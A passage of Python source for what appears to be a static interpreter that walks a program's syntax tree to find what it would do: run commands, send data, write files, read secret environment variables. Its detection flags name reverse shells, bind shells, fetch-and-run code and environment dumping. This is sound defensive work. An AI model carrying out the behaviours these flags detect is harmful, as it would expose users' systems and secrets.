def _bounded_format(fmt: str) -> bool:
    """A format string without huge widths or ``*`` widths (``'%*s' % (10**9, '')``)."""
    return not _UNBOUNDED_WIDTH.search(fmt)


# ------------------------------------------------------------------ interpreter


class _Stop(Exception):
    """The work bound was reached."""


@dataclass
class _State:
    """What one walk of a program has found so far: commands it runs, what it sends and
    prints, and whether anything it does acts."""

    shell: list[str] = field(default_factory=list)
    sends: list[str] = field(default_factory=list)
    opaque: list[str] = field(default_factory=list)
    printed: list[str] | None = field(default_factory=list)
    flags: set[str] = field(default_factory=set)
    acts: bool = False  # a process, write, delete, network or eval
    unknown_call: bool = False
    #: An effect that matters besides file effects (a socket, a signal, a run-like call
    #: of a library): the program is not harmless.
    matters: bool = False
    #: Constant strings handed to calls the model does not know.
    handed: list[str] = field(default_factory=list)
    #: Files the program writes, copies or moves into place, and the modules it imports:
    #: code it writes and then imports runs unread.
    written: set[str] = field(default_factory=set)
    imported: set[str] = field(default_factory=set)
    spawned: bool = False
    wired: set[str] = field(default_factory=set)
    net_files: set[str] = field(default_factory=set)
    unknown_read: bool = False
    forking_funcs: set[int] = field(default_factory=set)
    #: Fresh temporary names the program made (``tempfile.mkstemp``): deleting one
    #: removes only what the program itself created.
    own_temp: set[str] = field(default_factory=set)
    recursive_funcs: set[int] = field(default_factory=set)


class _Interp:
    """Walks one program; see the module docstring."""

    def __init__(self) -> None:
        import ast

        self.ast = ast
        self.s = _State()
        self.glob: dict[str, object] = {"__name__": "__main__"}
        self.scopes: list[dict[str, object]] = []
        self.star: list[str] = []
        self.steps = 0
        self.depth = 0
        self.endless = 0
        self.stack: list[Func] = []
        self.funcs: list[Func] = []
        self.returns: list[object] | None = None
        self.has_break: dict[ast.For | ast.AsyncFor, bool] = {}
        _fill_handlers(ast)

    # ------------------------------------------------------------- bookkeeping
    def line(self, text: str, acts: bool = True) -> None:
        if len(self.s.shell) < 500 and text not in self.s.shell:
            self.s.shell.append(text)
        if acts:
            self.s.acts = True

    def opaque(self, what: str) -> None:
        self.s.acts = True
        if what not in self.s.opaque and len(self.s.opaque) < 50:
            self.s.opaque.append(what)

    def send(self, target: object) -> None:
        self.s.acts = True
        text = _text(target) if not isinstance(target, Unknown) else (target.prefix or None)
        text = text or "unknown"
        if text not in self.s.sends:
            self.s.sends.append(text)

    def process(self, line: str | None, what: str, *values: object) -> None:
        """A process runs ``line`` (None: computed)."""
        self.s.acts = True
        self.s.spawned = True
        self.check_tainted(*values)
        if line is None:
            self.opaque(f"{what} with a computed argument")
            return
        words = line.split()
        if any(p in self.s.net_files or p.lstrip("./") in {f.lstrip("./") for f in self.s.net_files} for p in words):
            self.s.flags.add("fetch_run")
        self.line(line)

    def check_tainted(self, *values: object) -> None:
        t = _taint(*values)
        if "net" in t:
            self.s.flags.add("fetch_run")
        for role in ("client", "new"):
            if f"sock:{role}" in t:
                self.s.flags.add("reverse_shell")
        if "sock:server" in t:
            self.s.flags.add("bind_shell")

    # --------------------------------------------------------------- names
    def lookup(self, name: str) -> object:
        for scope in reversed(self.scopes):
            if name in scope:
                return scope[name]
        if name in self.glob:
            return self.glob[name]
        for mod in self.star:
            full = f"{mod}.{name}"
            if _rule(full) is not None or _is_harmless(full):
                return Ref(full)
        if name == "__file__":
            return UNKNOWN
        return Ref(name)

    def bind(self, name: str, value: object) -> None:
        (self.scopes[-1] if self.scopes else self.glob)[name] = value

    def assign(self, target: ast.AST, value: object) -> None:
        ast = self.ast
        if isinstance(target, ast.Name):
            self.bind(target.id, value)
        elif isinstance(target, (ast.Tuple, ast.List)):
            elts = target.elts
            if isinstance(value, (list, tuple)) and len(value) == len(elts) and not any(isinstance(e, ast.Starred) for e in elts):
                for e, v in zip(elts, value, strict=True):
                    self.assign(e, v)
            else:
                for e in elts:
                    self.assign(e.value if isinstance(e, ast.Starred) else e, _unknown(value))
        elif isinstance(target, ast.Starred):
            self.assign(target.value, _unknown(value))
        else:  # attribute or item: evaluate for effects
            if isinstance(target, ast.Attribute):
                self.ev(target.value)
            elif isinstance(target, ast.Subscript):
                self.ev(target.value)
                self.ev(target.slice)

    # ------------------------------------------------------------ statements
    def run(self, body: Iterable[ast.stmt]) -> None:
        for stmt in body:
            self.stmt(stmt)

    def branches(self, blocks: list[list[ast.stmt]]) -> None:
        """Run each block from the same start; names that end up differing are unknown."""
        scope = self.scopes[-1] if self.scopes else self.glob
        start = dict(scope)
        ends = []
        for block in blocks:
            if not block:  # an empty block (no ``else``) ends where it starts
                ends.append(start)
                continue
            scope.clear()
            scope.update(start)
            self.run(block)
            ends.append(dict(scope))
        # A block only adds names or rebinds them: a name no block rebound keeps its
        # value, and only the names some block (re)bound are merged.
        rebound = {k for e in ends if e is not start for k, v in e.items() if start.get(k, _SENTINEL) is not v}
        scope.clear()
        scope.update(start)
        for key in rebound:
            vals = [e.get(key, _SENTINEL) for e in ends]
            first = vals[0]
            same = all(v is first or (type(v) is type(first) and _safe_eq(v, first)) for v in vals)
            scope[key] = first if same and first is not _SENTINEL else _unknown(*[v for v in vals if v is not _SENTINEL])

    def stmt(self, node: ast.stmt) -> None:
        self.steps += 1
        if self.steps > MAX_STEPS:
            raise _Stop
        handler = _STMT.get(type(node)) or _handler(_STMT, type(node))
        handler(self, node)

    # Each statement kind has its handler (``_STMT``); a kind without one does nothing.
    def s_expr(self, node: ast.Expr) -> None:
        self.ev(node.value)

    def s_assign(self, node: ast.Assign) -> None:
        value = self.ev(node.value)
        for t in node.targets:
            self.assign(t, value)

    def s_annassign(self, node: ast.AnnAssign) -> None:
        if node.value is not None:
            self.assign(node.target, self.ev(node.value))

    def s_augassign(self, node: ast.AugAssign) -> None:
        ast = self.ast
        load = ast.Name(node.target.id, ast.Load()) if isinstance(node.target, ast.Name) else None
        current = self.ev(load) if load is not None else UNKNOWN
        self.assign(node.target, self.binop(node.op, current, self.ev(node.value)))

    def s_import(self, node: ast.Import) -> None:
        self.s.imported.update(a.name for a in node.names)
        for alias in node.names:
            if alias.asname:
                self.bind(alias.asname, Ref(_canon(alias.name)))
            else:
                top = alias.name.split(".")[0]
                self.bind(top, Ref(_canon(top)))

    def s_importfrom(self, node: ast.ImportFrom) -> None:
        self.s.imported.update([node.module or ""] + [f"{node.module or ''}.{a.name}" for a in node.names])
        mod = _canon(node.module or "") if not node.level else "__relative__"
        for alias in node.names:
            if alias.name == "*":
                self.star.append(mod)
            else:
                self.bind(alias.asname or alias.name, Ref(_canon(f"{mod}.{alias.name}")))

    def s_if(self, node: ast.If) -> None:
        self.ev(node.test)
        self.branches([node.body, node.orelse])

    def s_while(self, node: ast.While) -> None:
        test = self.ev(node.test)
        endless = _is_const(test) and bool(test)
        self.endless += endless
        try:
            self.branches([[], node.body])
        finally:
            self.endless -= endless
        self.run(node.orelse)

    def s_with(self, node: ast.With | ast.AsyncWith) -> None:
        for item in node.items:
            value = self.ev(item.context_expr)
            if item.optional_vars is not None:
                self.assign(item.optional_vars, value)
        self.run(node.body)

    def s_try(self, node: ast.Try) -> None:
        self.run(node.body)
        blocks: list[list[_ast.stmt]] = [[]]
        for h in node.handlers:
            if h.type is not None:
                self.ev(h.type)
            if h.name:
                self.bind(h.name, UNKNOWN)
            blocks.append(h.body)
        self.branches(blocks)
        self.run(node.orelse)
        self.run(node.finalbody)

    def s_functiondef(self, node: ast.FunctionDef | ast.AsyncFunctionDef) -> None:
        for d in node.decorator_list:
            self.ev(d)
        f = Func(node)
        self.funcs.append(f)
        self.bind(node.name, f)

    def s_classdef(self, node: ast.ClassDef) -> None:
        for b in node.bases:
            self.ev(b)
        self.scopes.append({})
        try:
            self.run(node.body)
        finally:
            self.scopes.pop()
        self.bind(node.name, Unknown(frozenset({"class"})))

    def s_return(self, node: ast.Return) -> None:
        value = self.ev(node.value) if node.value is not None else None
        if self.returns is not None:
            self.returns.append(value)

    def s_raise(self, node: ast.Raise) -> None:
        if node.exc is not None:
            self.ev(node.exc)

    def s_assert(self, node: ast.Assert) -> None:
        self.ev(node.test)

    def s_match(self, node: ast.Match) -> None:
        self.ev(node.subject)
        self.branches([[]] + [c.body for c in node.cases])

    def s_delete(self, node: ast.Delete) -> None:
        for t in node.targets:
            if isinstance(t, self.ast.Subscript):
                self.ev(t.value)

    def loop_for(self, node: ast.For | ast.AsyncFor) -> None:
        ast = self.ast
        it = node.iter
        endless = False
        if isinstance(it, ast.Call):
            f = self.ev(it.func)
            if isinstance(f, Ref) and (f.name in ("itertools.count", "itertools.cycle")
                                       or (f.name == "itertools.repeat" and len(it.args) == 1 and not it.keywords)
                                       or (f.name == "iter" and len(it.args) == 2)):
                endless = True
        seq = self.ev(it)
        if isinstance(seq, Ref) and seq.name in ("os.environ", "os.environb"):
            self.s.flags.add("env_dump")
        self.endless += endless
        try:
            if isinstance(seq, (list, tuple, str)) and 0 < len(seq) <= MAX_UNROLL and not self.breaks(node):
                for item in seq:
                    self.assign(node.target, item)
                    self.run(node.body)
            else:
                self.assign(node.target, self.element(seq))
                self.branches([[], node.body])
        finally:
            self.endless -= endless
        self.run(node.orelse)

    def breaks(self, node: ast.For | ast.AsyncFor) -> bool:
        """A ``break`` anywhere in the loop (then it is not unrolled); worked out once a
        loop, however often it runs (a loop in a function called again, a nested loop)."""
        found = self.has_break.get(node)
        if found is None:
            ast = self.ast
            found = self.has_break[node] = any(isinstance(n, ast.Break) for n in ast.walk(node))
        return found

    def element(self, seq: object) -> object:
        """One element of a sequence the loop is not unrolled over."""
        if isinstance(seq, Glob):
            return seq
        if isinstance(seq, list) and seq and all(isinstance(x, Glob) for x in seq):
            return seq[0]
        if isinstance(seq, tuple) and seq and isinstance(seq[0], Glob):
            return seq[0]
        if isinstance(seq, list) and seq and isinstance(seq[0], tuple):
            return seq[0]
        return _unknown(seq)

    # ------------------------------------------------------------ expressions
    def ev(self, node: ast.AST | None) -> object:
        if node is None:
            return None
        self.steps += 1
        if self.steps > MAX_STEPS:
            raise _Stop
        handler = _EV.get(type(node)) or _handler(_EV, type(node))
        return handler(self, node)

    # Each expression kind has its handler (``_EV``); a kind without one is unknown.
    def e_constant(self, node: ast.Constant) -> object:
        v = node.value
        if isinstance(v, (str, bytes)) and len(v) > MAX_DECODED:
            return UNKNOWN
        return v

    def e_name(self, node: ast.Name) -> object:
        return self.lookup(node.id)

    def e_attribute(self, node: ast.Attribute) -> object:
        return self.attribute(self.ev(node.value), node.attr)

    def chain(self, node: Any, child: str) -> tuple[list[Any], ast.AST]:
        """``node`` and the nodes of its own kind nested in it through ``child`` (``a + b +
        c …`` nests to the left, ``- - …`` in the operand), with the first other node.
        They are walked in a loop rather than a frame or two each: a long concatenation
        would reach Python's recursion limit, and an unreadable program asks. Each link
        counts a step, in the order and at the point :meth:`ev` would count it."""
        kind = type(node)
        links = [node]
        inner = getattr(node, child)
        while isinstance(inner, kind):
            self.steps += 1
            if self.steps > MAX_STEPS:
                raise _Stop
            links.append(inner)
            inner = getattr(inner, child)
        return links, inner

    def e_binop(self, node: ast.BinOp) -> object:
        links, left = self.chain(node, "left")
        value = self.ev(left)
        for link in reversed(links):
            value = self.binop(link.op, value, self.ev(link.right))
        return value

    def e_unaryop(self, node: ast.UnaryOp) -> object:
        links, inner = self.chain(node, "operand")
        value = self.ev(inner)
        for link in reversed(links):
            value = self.unary(link, value)
        return value

    def unary(self, node: ast.UnaryOp, v: object) -> object:
        """``node``'s operator applied to its operand's value ``v``."""
        ast = self.ast
        if _is_const(v):
            try:
                if isinstance(node.op, ast.Not):
                    return not v
                if isinstance(node.op, ast.USub) and isinstance(v, (int, float)):
                    return -v
                if isinstance(node.op, ast.Invert) and isinstance(v, int):
                    return ~v
            except Exception:
                return UNKNOWN
        return _unknown(v)

    def e_boolop(self, node: ast.BoolOp) -> object:
        values = [self.ev(v) for v in node.values]
        if all(_is_const(v) for v in values):
            result = values[0]
            for v in values[1:]:
                if isinstance(node.op, self.ast.Or):
                    result = result or v
                else:
                    result = result and v
            return result
        return _unknown(*values)

    def e_compare(self, node: ast.Compare) -> object:
        ast = self.ast
        values = [self.ev(node.left)] + [self.ev(c) for c in node.comparators]
        if len(values) == 2 and all(isinstance(v, (str, int)) for v in values) and isinstance(node.ops[0], (ast.Eq, ast.NotEq)):
            return (values[0] == values[1]) == isinstance(node.ops[0], ast.Eq)
        return UNKNOWN

    def e_ifexp(self, node: ast.IfExp) -> object:
        test = self.ev(node.test)
        a, b = self.ev(node.body), self.ev(node.orelse)
        if _is_const(test):
            return a if test else b
        return a if _safe_eq(a, b) else _unknown(a, b)

    def e_sequence(self, node: ast.List | ast.Tuple | ast.Set) -> object:
        ast = self.ast
        out: list[object] = []
        for e in node.elts:
            if isinstance(e, ast.Starred):
                v = self.ev(e.value)
                if isinstance(v, (list, tuple)):
                    out.extend(v)
                else:
                    out.append(_unknown(v))
            else:
                out.append(self.ev(e))
        return tuple(out) if isinstance(node, ast.Tuple) else out

    def e_dict(self, node: ast.Dict) -> object:
        d: dict[object, object] = {}
        for k, v in zip(node.keys, node.values, strict=True):
            value = self.ev(v)
            if k is None:
                if isinstance(value, Ref) and value.name in ("os.environ", "os.environb"):
                    self.s.flags.add("env_dump")
                continue
            key = self.ev(k)
            if isinstance(key, (str, int, bytes)):
                d[key] = value
        return d

    def e_subscript(self, node: ast.Subscript) -> object:
        return self.subscript(self.ev(node.value), node.slice)

    def e_formatted(self, node: ast.FormattedValue) -> object:
        return self.fstring(self.ast.JoinedStr([node]))

    def e_comprehension(self, node: ast.ListComp | ast.GeneratorExp | ast.SetComp) -> object:
        return self.comprehension(node.generators, [node.elt])

    def e_dictcomp(self, node: ast.DictComp) -> object:
        self.comprehension(node.generators, [node.key, node.value])
        return UNKNOWN

    def e_lambda(self, node: ast.Lambda) -> object:
        f = Func(node)
        self.funcs.append(f)
        return f

    def e_namedexpr(self, node: ast.NamedExpr) -> object:
        v = self.ev(node.value)
        self.assign(node.target, v)
        return v

    def e_value(self, node: ast.Await | ast.Yield | ast.YieldFrom | ast.Starred) -> object:
        return self.ev(node.value)

    def e_slice(self, node: ast.Slice) -> object:
        return slice(self.ev(node.lower), self.ev(node.upper), self.ev(node.step))

    def fstring(self, node: ast.JoinedStr) -> object:
        ast = self.ast
        parts: list[str] = []
        rest: list[object] = []
        for v in node.values:
            if isinstance(v, ast.Constant) and isinstance(v.value, str):
                piece: object = v.value
            elif isinstance(v, ast.FormattedValue):
                value = self.ev(v.value)
                spec = self.ev(v.format_spec) if v.format_spec is not None else ""
                if _is_const(value) and isinstance(spec, str) and _bounded_format(spec):
                    try:
                        conv = _CONVERSIONS.get(v.conversion)
                        piece = format(conv(value) if conv is not None else value, spec)
                    except Exception:
                        piece = _unknown()
                else:
                    piece = _text(value) if isinstance(value, PathV) and not spec else _unknown(value)
            else:
                piece = UNKNOWN
            if isinstance(piece, str) and not rest:
                parts.append(piece)
            else:
                rest.append(piece)
        if not rest:
            text = "".join(parts)
            return text if len(text) <= MAX_DECODED else UNKNOWN
        return _unknown(*rest, prefix="".join(parts))

    def comprehension(self, gens: list[ast.comprehension], elts: list[ast.expr]) -> object:
        self.scopes.append({})
        results: list[object] = []
        complete = True
        try:
            def walk(i: int) -> None:
                nonlocal complete
                if i == len(gens):
                    values = [self.ev(e) for e in elts]
                    results.append(values[0])
                    return
                g = gens[i]
                seq = self.ev(g.iter)
                if isinstance(seq, (list, tuple, str, bytes)) and len(seq) <= MAX_UNROLL:
                    for item in seq:
                        self.assign(g.target, item)
                        if all(_truthy(self.ev(c)) for c in g.ifs):
                            walk(i + 1)
                else:
                    complete = False
                    self.assign(g.target, self.element(seq))
                    for c in g.ifs:
                        self.ev(c)
                    walk(i + 1)
            walk(0)
        finally:
            self.scopes.pop()
        if complete:
            return results
        return _unknown(*results)

    def attribute(self, obj: object, attr: str) -> object:
        if isinstance(obj, Ref):
            name = _canon(f"{obj.name}.{attr}") if obj.name else attr
            return _CONST_ATTRS.get(name, Ref(name))
        if isinstance(obj, Response):
            return Unknown(frozenset({"net"}))
        if isinstance(obj, PathV):
            import posixpath

            if attr == "name":
                return posixpath.basename(obj.path)
            if attr == "parent":
                return PathV(posixpath.dirname(obj.path) or ".")
            if attr in ("stem", "suffix"):
                base = posixpath.basename(obj.path)
                stem, suffix = posixpath.splitext(base)
                return stem if attr == "stem" else suffix
            return UNKNOWN
        if isinstance(obj, Glob):
            return self.glob_attribute(obj, attr)
        if isinstance(obj, Handle) and attr == "name":
            return obj.path
        if attr in _REFLECT:
            return Unknown(frozenset({"dyn"}) | _taint(obj))
        if isinstance(obj, Unknown):
            return Unknown(obj.taint)
        return UNKNOWN

    def glob_attribute(self, g: Glob, attr: str) -> object:
        """``entry.path`` of an ``os.scandir`` entry is the entry; ``p.name`` and
        ``p.parent`` of a pattern are patterns."""
        import posixpath

        if attr == "path":
            return g
        if attr == "name":
            return Glob(posixpath.basename(g.pattern.rstrip("/")) or "*")
        if attr == "parent":
            return Glob(posixpath.dirname(g.pattern.rstrip("/")) or ".")
        return UNKNOWN

    def subscript(self, obj: object, sl: ast.expr) -> object:
        key = self.ev(sl)
        if isinstance(obj, Ref):
            if obj.name in ("os.environ", "os.environb"):
                return self.getenv(key)
            space = _namespace(obj.name)
            if space is not None:  # ``os.__dict__['system']``, ``__builtins__['exec']``
                return self.attribute(Ref(space), key) if isinstance(key, str) else Unknown(frozenset({"dyn"}) | _taint(key))
            if obj.name == "sys.modules" and isinstance(key, str):
                return Ref(_canon(key))
            if obj.name == "sys.argv":
                return Unknown(frozenset({"argv"}))
            return UNKNOWN
        if isinstance(obj, (str, bytes, list, tuple)) and isinstance(key, (int, slice)):
            if isinstance(key, slice) and not all(x is None or isinstance(x, int) for x in (key.start, key.stop, key.step)):
                return _unknown(obj)
            try:
                return obj[key]
            except Exception:
                return UNKNOWN
        if isinstance(obj, dict):
            try:
                return obj.get(key, UNKNOWN)  # type: ignore[call-overload]
            except Exception:
                return UNKNOWN
        if isinstance(obj, (tuple, list)) and isinstance(key, Unknown):
            return _unknown(*obj)
        return _unknown(obj)

    def getenv(self, key: object, default: object = None) -> object:
        if not isinstance(key, str):
            return UNKNOWN
        if key in _HOME_VARS:
            return "~"
        if key in ("PWD",):
            return "."
        if any(w in key.upper() for w in _SECRET_WORDS):
            self.line(shell_line(["printenv", key]), acts=False)
            return Unknown(frozenset({"secret"}))
        return default if _is_const(default) and default is not None else UNKNOWN

    def binop(self, op: ast.operator, a: object, b: object) -> object:
        ast = self.ast
        if isinstance(op, ast.Div) and isinstance(a, PathV):
            t = _text(b)
            joined = _join(a.path, t) if t is not None else _unknown(b)
            return PathV(joined) if isinstance(joined, str) else joined
        if isinstance(op, ast.Div) and isinstance(a, Glob):
            t = _text(b)
            return Glob(_join(a.pattern, t)) if t is not None else _unknown(b)  # type: ignore[arg-type]
        if isinstance(op, ast.Add) and isinstance(a, str) and isinstance(b, Glob):
            return Glob(a + b.pattern)
        if isinstance(op, ast.Add) and isinstance(a, Glob) and isinstance(b, str):
            return Glob(a.pattern + b)
        if _is_const(a) and _is_const(b):
            if isinstance(op, ast.Mult):
                n = b if isinstance(b, int) else a if isinstance(a, int) else None
                seq = a if not isinstance(a, int) else b
                if isinstance(n, int) and isinstance(seq, (str, bytes, list, tuple)) and len(seq) * max(n, 0) > MAX_DECODED:
                    return UNKNOWN
            if isinstance(op, ast.Mod) and isinstance(a, (str, bytes)) and not _bounded_format(a.decode("latin-1") if isinstance(a, bytes) else a):
                return UNKNOWN
            if isinstance(op, ast.Pow) and isinstance(b, (int, float)) and abs(b) > 64:
                return UNKNOWN
            if isinstance(op, ast.LShift) and isinstance(b, int) and b > 64:
                return UNKNOWN
            fn = _BINOPS.get(type(op).__name__)
            if fn is None:
                return UNKNOWN
            try:
                out = fn(a, b)
            except Exception:
                return UNKNOWN
            if isinstance(out, (str, bytes)) and len(out) > MAX_DECODED:
                return UNKNOWN
            return out
        if isinstance(op, ast.Add) and isinstance(a, str):
            return _unknown(b, prefix=a + (b.prefix if isinstance(b, Unknown) else ""))
        if isinstance(a, Unknown) and a.prefix:
            return _unknown(a, b, prefix=a.prefix)
        return _unknown(a, b)

    # ----------------------------------------------------------------- calls
    def call(self, node: ast.Call) -> object:
        ast = self.ast
        func = node.func
        target: object
        if isinstance(func, ast.Attribute):
            obj = self.ev(func.value)
            target = self.attribute(obj, func.attr) if isinstance(obj, Ref) else Bound(obj, func.attr)
        else:
            target = self.ev(func)
        args: list[object] = []
        for a in node.args:
            if isinstance(a, ast.Starred):
                v = self.ev(a.value)
                if isinstance(v, (list, tuple)):
                    args.extend(v)
                else:
                    args.append(_unknown(v))
            else:
                args.append(self.ev(a))
        kw: dict[str, object] = {}
        for k in node.keywords:
            v = self.ev(k.value)
            if k.arg is None:
                if isinstance(v, dict):
                    kw.update({str(x): y for x, y in v.items()})
                continue
            kw[k.arg] = v
        return self.apply(target, args, kw)

    def apply(self, target: object, args: list[object], kw: dict[str, object]) -> object:
        for v in args:
            if _is_environ(v):
                self.s.flags.add("env_dump")
        for key, v in kw.items():
            if key != "env" and _is_environ(v):
                self.s.flags.add("env_dump")
        if isinstance(target, Ref) and target.name in ("map", "filter") and len(args) >= 2 and _acts(args[0]):
            seq = args[1]
            items = list(seq)[:MAX_UNROLL] if isinstance(seq, (list, tuple, str)) else [self.element(seq)]
            return [self.apply(args[0], [x], {}) for x in items]
        name = _canon(target.name) if isinstance(target, Ref) else None
        if not isinstance(target, Func) and not (name is not None and name.startswith(_LOOKS_ONLY)):
            self.callbacks(args, kw)
        if name is not None:
            if name in ("print", "sys.stdout.write", "sys.stdout.buffer.write"):
                return self.print(name, args, kw)
            rule = _rule(name)
            if name not in _TAKES_HANDLES:
                self.handles_passed(args, kw)
            if rule is not None:
                handler: Callable[[str, list[object], dict[str, object]], object] = getattr(self, f"_k_{rule.kind}")
                return handler(name, args, kw)
            return self.plain(name, args, kw)
        if isinstance(target, Bound):
            return self.method(target.obj, target.attr, args, kw)
        if isinstance(target, Func):
            return self.call_func(target, args, kw)
        if isinstance(target, Code):
            return UNKNOWN
        if isinstance(target, Unknown):
            if "dyn" in target.taint or "net" in target.taint:
                self.check_tainted(target)
                self.opaque("calls a function looked up at run time")
            elif "class" not in target.taint:
                self.s.unknown_call = True
            return _unknown(target)
        self.s.unknown_call = True
        return UNKNOWN

    def callbacks(self, args: list[object], kw: dict[str, object]) -> None:
        """A function that acts, handed to another call (``Thread(target=os.system,
        args=(…,))``, ``atexit.register(shutil.rmtree, p)``), is taken to be called with
        the arguments given beside it."""
        for i, v in enumerate([*args, *kw.values()]):
            if not _acts(v):
                continue
            given = kw.get("args")
            rest = list(given) if isinstance(given, (list, tuple)) else list(args[i + 1:]) if i < len(args) else []
            extra = kw.get("kwargs")
            self.apply(v, rest, {str(k): x for k, x in extra.items()} if isinstance(extra, dict) else {})

    def temp(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        """A fresh name under the temporary directory (made by the call, so the program
        owns what it then writes or deletes there)."""
        suffix = kw.get("suffix", "")
        prefix = kw.get("prefix", "tmp")
        if not isinstance(suffix, str) or not isinstance(prefix, str):
            suffix, prefix = "", "tmp"
        path = "/tmp" if name == "tempfile.gettempdir" else f"/tmp/{prefix}XXXXXXXX{suffix}"
        if name != "tempfile.gettempdir" and "dir" not in kw and "/" not in prefix + suffix:
            self.s.own_temp.add(path)
        if name in ("tempfile.mkdtemp", "tempfile.TemporaryDirectory"):
            self.line(f"mkdir -p -- {shell_word(path)}")
        if name in ("tempfile.NamedTemporaryFile", "tempfile.TemporaryFile", "tempfile.SpooledTemporaryFile"):
            mode = args[0] if args else kw.get("mode", "w+b")
            return Handle(path, not isinstance(mode, str) or any(c in mode for c in "wax+"), False)
        if name == "tempfile.mkstemp":
            return (Handle(path, True, False), path)
        return path

    def handles_passed(self, args: list[object], kw: dict[str, object]) -> None:
        """A writable file handed to another function is written with unknown text."""
        values = list(args) + list(kw.values())
        for v in values:
            if isinstance(v, Handle) and v.write:
                self.write(v, _unknown(*[x for x in values if not isinstance(x, Handle)]))

    def plain(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        """A call with no effect record: a fold, a harmless call, or an unknown one."""
        if name in ("getattr",) and len(args) >= 2:
            obj, attr = args[0], args[1]
            if isinstance(attr, str):
                return self.attribute(obj, attr)
            return Unknown(frozenset({"dyn"}))
        if name in ("globals", "locals", "vars") or name.endswith(".__dict__"):
            return Unknown(frozenset({"dyn"}))
        if name.endswith((".__getattribute__", ".__getattr__")):  # ``os.__getattribute__('system')``
            attr = args[0] if args else UNKNOWN
            return self.attribute(Ref(name.rsplit(".", 1)[0]), attr) if isinstance(attr, str) else Unknown(frozenset({"dyn"}))
        if name in ("pathlib.Path", "pathlib.PurePath", "pathlib.PurePosixPath"):
            if not args:
                return PathV(".")
            joined = _join(*args)
            return PathV(joined) if isinstance(joined, str) else joined
        if name == "pathlib.Path.home":
            return PathV("~")
        if name == "pathlib.Path.cwd" or name == "os.getcwd":
            return PathV(".") if name.startswith("pathlib") else "."
        if name in _TEMP_PATHS:
            return self.temp(name, args, kw)
        if name == "pwd.getpwuid":
            return {"pw_dir": "~"}
        if name == "os.listdir":
            return [Glob("*")]  # names only: ``os.path.join(base, name)`` adds the base
        if name == "os.scandir":
            entries = _join(args[0] if args else ".", Glob("*"))
            return [entries] if isinstance(entries, Glob) else _unknown(entries)
        if name in ("glob.glob", "glob.iglob"):
            t = _text(args[0]) if args else None
            return [Glob(t)] if t is not None else _unknown(*args)
        if name == "os.walk":  # each folder at or below top, with its entries' names
            below = _join(args[0] if args else kw.get("top", "."), Glob("**"))
            return [(below, [Glob("*")], [Glob("*")])] if isinstance(below, Glob) else _unknown(below)
        if name == "str.maketrans" and args and all(isinstance(a, str) for a in args):
            try:
                return str.maketrans(*args)  # type: ignore[call-overload]
            except Exception:
                return UNKNOWN
        folded = _fold_decoder(name, args, kw)
        if folded is _SENTINEL:
            folded = _pure(name, args, kw)
        if folded is not _SENTINEL:
            return folded
        if name in ("str", "os.fspath") and len(args) == 1 and isinstance(args[0], (PathV, Glob)):
            return args[0].path if isinstance(args[0], PathV) else args[0]
        if name in ("list", "sorted", "tuple", "iter") and len(args) == 1 and isinstance(args[0], list):
            return args[0]
        if name in ("dict",) and args and isinstance(args[0], Ref) and args[0].name in ("os.environ", "os.environb"):
            self.s.flags.add("env_dump")
        if name == "input":
            return Unknown(frozenset({"input"}))
        if _is_harmless(name):
            return _unknown(*args, *kw.values()) if args or kw else UNKNOWN
        self.library_call(name, args, kw)
        if name.rsplit(".", 1)[-1] in _RUN_METHODS and "." in name:
            self.check_tainted(*args)
        return _unknown(*args)

    def print(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        dest = kw.get("file")
        if isinstance(dest, Handle):
            self.write(dest, _text_of(args, kw))
            return None
        if isinstance(dest, Ref) and dest.name == "sys.stderr":
            return None
        if name == "print":
            text = _text_of(args, kw)
        else:
            text = _text(args[0]) if args else ""
        if text is None or self.s.printed is None:
            self.s.printed = None
        else:
            self.s.printed.append(text)
        return None

    def call_func(self, f: Func, args: list[object], kw: dict[str, object]) -> object:
        ast = self.ast
        f.called = True
        node = f.node
        assert isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda))
        if f in self.stack:
            self.s.recursive_funcs.add(id(f))
            return UNKNOWN
        if len(self.stack) >= MAX_CALLS:
            return UNKNOWN
        scope: dict[str, object] = {}
        params = node.args
        positional = [p.arg for p in params.posonlyargs + params.args]
        defaults = params.defaults
        for i, p in enumerate(positional):
            d_index = i - (len(positional) - len(defaults))
            if i < len(args):
                scope[p] = args[i]
            elif p in kw:
                scope[p] = kw[p]
            elif d_index >= 0:
                scope[p] = self.ev(defaults[d_index])
            else:
                scope[p] = UNKNOWN
        for p in params.kwonlyargs:
            scope[p.arg] = kw.get(p.arg, UNKNOWN)
        if params.vararg:
            scope[params.vararg.arg] = tuple(args[len(positional):])
        if params.kwarg:
            scope[params.kwarg.arg] = UNKNOWN
        self.stack.append(f)
        self.scopes.append(scope)
        saved, self.returns = self.returns, []
        try:
            if isinstance(node, ast.Lambda):
                result = self.ev(node.body)
            else:
                self.run(node.body)
                rets = self.returns
                result = rets[0] if rets and all(_safe_eq(r, rets[0]) for r in rets) else _unknown(*rets) if rets else None
        finally:
            self.returns = saved
            self.scopes.pop()
            self.stack.pop()
        return result

    def sweep(self) -> None:
        """Bodies of functions nothing called are read once with unknown arguments."""
        seen = 0
        while seen < len(self.funcs) and seen < 200:
            f = self.funcs[seen]
            seen += 1
            if not f.called:
                self.call_func(f, [], {})

    # ---------------------------------------------------------------- methods
    def method(self, obj: object, attr: str, args: list[object], kw: dict[str, object]) -> object:
        if isinstance(obj, (str, bytes)):
            return self.str_method(obj, attr, args, kw)
        if isinstance(obj, (PathV, Glob)):
            return self.path_method(obj, attr, args, kw)
        if isinstance(obj, Handle):
            if attr in ("write", "writelines"):
                data: object = args[0] if args else UNKNOWN
                if attr == "writelines" and isinstance(data, (list, tuple)):
                    data = "".join(_text(x) or "\0" for x in data) if all(_text(x) is not None for x in data) else _unknown(*data)
                self.write(obj, data)
                return None
            if attr in ("read", "readline", "readlines", "__iter__"):
                path = _text(obj.path)
                taint = {"net"} if path is not None and path in self.s.net_files else set()
                if path is not None:
                    taint.add(_FROM_FILE + path)  # evaluated, it is that file run (``evaluate``)
                return Unknown(frozenset(taint | {"file"}))
            return UNKNOWN
        if isinstance(obj, Sock):
            return self.sock_method(obj, attr, args)
        if isinstance(obj, Conn):
            if attr in ("request", "putrequest", "sendmail", "send_message", "storbinary", "storlines", "send", "write"):
                self.send(obj.host)
                return Response(obj.host)
            return Response(obj.host) if attr in ("getresponse", "retrbinary") else UNKNOWN
        if isinstance(obj, Response):
            return Unknown(frozenset({"net"}))
